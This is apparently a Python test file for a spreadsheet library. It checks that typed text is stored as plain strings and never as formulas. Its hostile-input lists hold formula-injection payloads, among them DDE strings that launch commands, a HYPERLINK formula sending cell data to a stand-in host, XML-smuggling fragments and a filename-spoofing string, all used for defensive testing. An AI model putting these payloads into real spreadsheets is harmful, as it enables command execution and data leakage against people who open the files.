"""Whatever people type is written as text: other programs read the same words back, and never a formula."""

import io

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from office.gate.archives import small_workbook, zipped
from xltools.office.workbook import Workbook

BASE = Workbook.from_bytes(zipped(small_workbook()), "x.xlsx")
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "'",
    "|",
    "%",
    "=cmd|'/c calc'!A0",
    "@SUM(1)",
    "+1",
    "-1+1",
    "=HYPERLINK(",
)
HOSTILE = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "@SUM(A1)",
    "-1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    '=HYPERLINK("http://a.test/?"&A1)',
    '=DDE("cmd";"/c";"calc")',
    "]]><f>1+1</f><![CDATA[",
    "</t></is></c><c><f>1+1</f></c>",
    "&lt;f&gt;1&lt;/f&gt;",
    "<!DOCTYPE a>",
    "_x003D_1+1",
    "_x0000_",
    "\x00\x01\x1f\x7f\x80\x9f",
    "\ufffe\uffff",
    "a\u202egnp.exe",
    "\u2028\u2029",
    "001",
    "1E5",
    "TRUE",
    "#REF!",
    "2025-01-01",
)


def read_back(text: str) -> tuple[object, str, object]:
    """The value and its kind by openpyxl, and the value by calamine."""
    book = BASE.copy()
    book.sheet("表1 收支总表").set_text(2, 2, text)
    data = book.to_bytes()
    cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["B2"]
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(data))
        .get_sheet_by_index(0)
        .to_python(skip_empty_area=False)
    )
    ours = Workbook.from_bytes(data, "x.xlsx").sheet("表1 收支总表").cell(2, 2)
    assert ours.formula is None
    assert ours.value == text
    return cell.value, cell.data_type, rows[1][1]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts(text):
    value, kind, calamine = read_back(text)
    assert kind in ("s", "inlineStr")
    assert isinstance(value, str)
    assert isinstance(calamine, str)


VISIBLE = st.characters(exclude_categories=("Cc", "Cs", "Cn"))


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(STARTS), st.text(VISIBLE, max_size=40))
@example("=", "_x0041_")
def test_two_other_readers_see_the_same_words(start, text):
    value, kind, calamine = read_back(start + text)
    assert kind in ("s", "inlineStr")
    # Excel's coding of controls, `_x000D_`, is left to openpyxl's own decoder; calamine may undo it or not.
    assert unescape(value) == start + text
    assert start + text in (calamine, unescape(calamine))


@given(st.text(st.characters(), max_size=30))
def test_nothing_breaks_the_file(text):
    """Also characters that XML cannot hold, and halves of characters, which become U+FFFD."""
    book = BASE.copy()
    book.sheet("表1 收支总表").set_text(2, 2, text)
    cell = openpyxl.load_workbook(io.BytesIO(book.to_bytes())).worksheets[0]["B2"]
    assert cell.data_type in ("s", "inlineStr", "n")
    assert cell.data_type != "f"
